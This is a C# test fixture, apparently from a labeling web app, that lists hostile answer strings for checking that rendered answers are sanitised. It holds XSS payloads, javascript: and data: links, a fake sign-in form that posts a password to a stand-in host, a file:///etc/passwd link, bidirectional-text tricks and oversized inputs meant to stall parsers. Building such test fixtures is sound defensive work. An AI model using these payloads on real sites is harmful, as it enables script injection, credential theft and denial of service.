namespace Alignment.Labeling.Web.Tests;

/// <summary>
/// Answers that try to run, load, hide or stall something. Whatever they try to run would call <see cref="Alarm"/>, whatever
/// they try to load has <see cref="Host"/> in its address.
/// </summary>
public static class Hostile
{
    /// <summary>The function that a script would call.</summary>
    public const string Alarm = "alert";

    /// <summary>The host that a request would go to; nothing answers there.</summary>
    public const string Host = "hostile.invalid";

    /// <summary>The answers by name.</summary>
    public static IReadOnlyDictionary<string, string> All { get; } = new Dictionary<string, string>
    {
        ["script element"] = "Before <script>alert(1)</script> after\n\n<script src=\"https://hostile.invalid/x.js\"></script>",
        ["event attributes"] = "<img src=x onerror=alert(1)> <body onload=alert(1)> <details open ontoggle=alert(1)>x</details> <input autofocus onfocus=alert(1)>",
        ["svg"] = "<svg onload=alert(1)><script>alert(1)</script><image href=\"https://hostile.invalid/a.png\"/><use href=\"https://hostile.invalid/b.svg#x\"/></svg>",
        ["svg in math"] = "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        ["frames"] = "<iframe src=\"https://hostile.invalid/\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe><object data=\"https://hostile.invalid/\"></object><embed src=\"https://hostile.invalid/\">",
        ["meta and base"] = "<meta http-equiv=\"refresh\" content=\"0;url=https://hostile.invalid/\"><base href=\"https://hostile.invalid/\"><link rel=stylesheet href=\"https://hostile.invalid/x.css\">",
        ["style"] = "<style>@import url(https://hostile.invalid/x.css); body{display:none}</style><p style=\"background:url(https://hostile.invalid/x.png);position:fixed;inset:0\">over everything</p>",
        ["form"] = "<form action=\"https://hostile.invalid/\"><button>Sign in again</button><input name=password></form>",
        ["javascript links"] = "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1)) [d](&#106;avascript:alert(1)) [e](javascript&colon;alert(1)) <javascript:alert(1)>",
        ["other schemes"] = "[a](vbscript:msgbox(1)) [b](data:text/html,<script>alert(1)</script>) [c](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [d](file:///etc/passwd) [e](blob:https://hostile.invalid/1)",
        ["links into the app"] = "[home](/sign-out) [up](../people) [here](#main) [other](//hostile.invalid/) [query](?a=b) [self](my-judgments)",
        ["links that break out"] = "[a](https://hostile.invalid/\"onmouseover=\"alert(1)) [b](<https://hostile.invalid/ onclick=alert(1)>) [c](https://hostile.invalid 'x\" onclick=\"alert(1)')",
        ["reference links"] = "[a][1] ![b][2]\n\n[1]: javascript:alert(1) \"title\"\n[2]: https://hostile.invalid/pixel.png",
        ["images"] = "![pixel](https://hostile.invalid/pixel.png?who=me) ![](//hostile.invalid/a.png) ![d](data:image/svg+xml,<svg onload=alert(1)>) [![nested](https://hostile.invalid/n.png)](https://hostile.invalid/)",
        ["code fence"] = "```html\" onmouseover=\"alert(1)\n</code></pre><script>alert(1)</script>\n```\n\n`</code><img src=x onerror=alert(1)>`",
        ["open code fence"] = "```\n<script>alert(1)</script>\nand the fence never ends",
        ["table"] = "| a | b |\n|---|:-:|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n| `x|y` | [l](javascript:alert(1)) |",
        ["entities"] = "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;script&amp;gt; &#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E; &#0; &nbsp;",
        ["template syntax"] = "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %> @(1+1) #{7*7} <x-component :is=\"alert(1)\">",
        ["autolinks"] = "<https://hostile.invalid/?a=<script>alert(1)</script>> https://hostile.invalid/bare www.hostile.invalid <mail@hostile.invalid>",
        ["attribute lists"] = "# heading {onclick=alert(1) .mud-dialog #main}\n\n*text*{style=position:fixed}\n\n::: warning\nblock\n:::",
        ["comments and cdata"] = "<!-- --!> <img src=x onerror=alert(1)> --> <![CDATA[ <script>alert(1)</script> ]]> <?php alert(1) ?> <!DOCTYPE html [<!ENTITY x \"y\">]>",
        ["right to left"] = "The answer is \u202Eeerht\u202C and \u2067this is turned\u2069, then \u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627 and \u202Bleft open\n\nThe next line must stand as it is.",
        ["control characters"] = "bell \u0007 null \0 escape \u001B[31mred\u001B[0m backspace a\bb delete \u007F form\ffeed zero\u200Bwidth joiner\u200D soft\u00ADhyphen",
        ["combining marks"] = "Z" + string.Concat(Enumerable.Repeat("\u0300\u0301\u0302\u0303", 200)) + " over the lines around it",
        ["lone surrogates"] = "high \uD83D alone, low \uDE00 alone, and a pair \uD83D\uDE00",
        ["very long line"] = string.Concat(Enumerable.Repeat("word", 50_000)),
        ["long line with spaces"] = string.Concat(Enumerable.Repeat("word ", 20_000)),
        ["long address"] = "[link](https://hostile.invalid/" + new string('a', 9_000) + ") ![image](https://hostile.invalid/" + new string('b', 2_000) + ")",
        ["deep quotes"] = string.Concat(Enumerable.Repeat("> ", 3_000)) + "deep",
        ["deep lists"] = string.Join('\n', Enumerable.Range(0, 300).Select(depth => new string(' ', depth * 2) + "- item")),
        ["deep brackets"] = new string('[', 5_000) + "x" + new string(']', 5_000),
        ["many emphasis marks"] = string.Concat(Enumerable.Repeat("*a **b ***c _d __e ", 500)),
        ["many backticks"] = string.Concat(Enumerable.Range(1, 140).Select(count => new string('`', count) + " ")),
        ["many brackets and parentheses"] = string.Concat(Enumerable.Repeat("[a](", 2_500)),
        ["many cells"] = string.Join('\n', Enumerable.Repeat(string.Concat(Enumerable.Repeat("|x", 200)), 100).Prepend(string.Concat(Enumerable.Repeat("|-", 200))).Prepend(string.Concat(Enumerable.Repeat("|h", 200)))),
        ["many lines"] = string.Concat(Enumerable.Repeat("- a\n", 14_000)),
        ["a megabyte of words"] = string.Concat(Enumerable.Repeat("All work and no play makes a dull answer.\n", 25_000)),
        ["a megabyte of one line"] = string.Concat(Enumerable.Repeat("<b>&", 262_144)),
    };
}
